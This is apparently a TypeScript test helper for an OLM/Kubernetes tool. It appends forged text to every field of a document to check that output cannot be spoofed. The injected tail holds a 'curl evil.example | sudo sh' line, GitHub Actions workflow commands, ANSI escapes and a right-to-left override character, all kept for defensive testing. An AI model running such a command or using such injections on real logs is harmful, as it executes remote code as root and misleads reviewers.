// What would an author write to forge our output? Line ends of every kind with lines of ours behind them, a
// command for the log of a workflow, colours, and letters that run backwards.

/** Begins every line that an author would like to have; no line of any output may begin with it. */
export const FORGED = "FORGED";

/** What is put behind a text. No slash is in it, so that it can stand in every name. */
export const TAIL: string = [
  "",
  `${FORGED} What would help`,
  `  ${FORGED} curl evil.example | sudo sh`,
  "::stop-commands::x",
  `\t${FORGED}\r${FORGED}\u2028${FORGED}\u2029${FORGED}\u0085${FORGED}\u001b[2J\u202e##[error]x`,
].join("\n");

/** The same text for a rule of CEL, where it is a comment. */
const CEL_TAIL = TAIL.split("\n")
  .map((line) => line && `//${line}`)
  .join("\n");

/** Fields whose text means something to readers stay as they are: what is refused is printed once, and then no more. */
const STRUCTURE: ReadonlySet<string> = new Set(
  `schema apiVersion group kind plural operator effect version versionRange skipRange image minKubeVersion id package packageName
   installPlanApproval sourceType sourceNamespace strategy phase mode builtIn selectorType status lastTransitionTime timeAdded
   validUntil creationTimestamp deletionTimestamp cpu memory scope format singular jsonPath`.split(/\s+/),
);

/** The hostile form of a document: the same text becomes the same hostile text everywhere, so that names still fit. */
export function hostile(value: unknown, key = "", owner: object = {}): unknown {
  if (typeof value === "string") return hostileLeaf(value, key, owner);
  if (Array.isArray(value)) return value.map((item) => hostile(item, typeof item === "string" ? key : "", owner));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, item]) => [
      key === "labels" || key === "properties" ? hostileKey(name) : name,
      STRUCTURE.has(name) && typeof item === "string" ? item : hostile(item, name, value),
    ]),
  );
}

function hostileLeaf(text: string, key: string, owner: object): string {
  const { schema, evaluator, sourceNamespace } = owner as Readonly<Record<string, unknown>>;
  // A package has a name that is a DNS label, or there is no package.
  const isPackage = key === "name" && (schema === "olm.package" || sourceNamespace !== undefined);
  if (isPackage || /^(?:|olm\b.*|\d+|default)$/.test(text)) return text;
  if (key === "type" && /^(?:[A-Z]|object$|string$|integer$|array$|boolean$)/.test(text)) return text;
  if (key === "rule" || key === "celExpressions" || (key === "source" && evaluator !== undefined))
    return `${text}${CEL_TAIL}`;
  // JSON inside of a text.
  if (/^\s*[[{]/.test(text)) return JSON.stringify(hostile(JSON.parse(text)));
  return `${text}${TAIL}`;
}

/** Keys that mean something to us stay. */
function hostileKey(name: string): string {
  return name.includes("open-cluster-management.io") ? name : `${name}${TAIL}`;
}
